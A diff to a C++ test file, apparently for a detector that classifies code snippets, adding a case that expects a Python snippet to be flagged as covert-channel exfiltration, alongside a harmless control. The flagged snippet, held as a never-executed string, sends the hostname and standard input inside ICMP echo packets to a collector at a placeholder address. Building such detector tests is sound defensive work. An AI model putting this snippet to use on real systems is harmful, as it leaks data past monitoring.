@@ -3,7 +3,7 @@
 // (tests/corpus/prog60_MANIFEST.tsv): modules from inside Python packages,
 // incident response and forensics, minimal busybox environments,
 // event-driven Python, and account administration. Its aside scored 32/32
-// before any change; the class below came from its tune part (66/68
+// before any change; the classes below came from its tune part (66/68
 // before). Strings here are never executed.
 #include "test_util.hpp"
 
@@ -31,6 +31,29 @@ TEST(FiftySixthRoundClasses, AnAsyncioUnixConnectionHasItsPathAsEndpoint) {
        "    await writer.drain()\n"
        "    return json.loads((await reader.read()).split(b\"\\r\\n\\r\\n\", 1)[1])\n"
        "print(asyncio.run(containers()))\n",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// A SOCK_RAW socket's sends are packets the program builds (an ICMP echo
+// payload): the host's name in them is a covert channel, as in `ping -p`.
+TEST(FiftySixthRoundClasses, ARawSocketSendsPackets) {
+  const Case cases[] = {
+      {"the host's name and standard input in ICMP echo payloads", B,
+       "import os, socket, struct, sys\n"
+       "def packet(seq, payload):\n"
+       "    return struct.pack(\"!BBHHH\", 8, 0, 0, 7, seq) + payload\n"
+       "s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n"
+       "note = (socket.gethostname() + \"|\" + sys.stdin.read()).encode()\n"
+       "s.sendto(packet(1, note), (os.environ.get(\"COLLECTOR\", \"198.51.100.23\"), 0))\n",
+       "COVERT-CHANNEL-EXFILTRATION"},
+      {"an ICMP echo carrying only a timestamp", L,
+       "import socket, struct, time\n"
+       "def packet(seq, payload):\n"
+       "    return struct.pack(\"!BBHHH\", 8, 0, 0, 7, seq) + payload\n"
+       "s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n"
+       "s.sendto(packet(1, struct.pack(\"!d\", time.time())), (\"198.51.100.23\", 0))\n",
        nullptr},
   };
   for (const auto& c : cases) check(c);
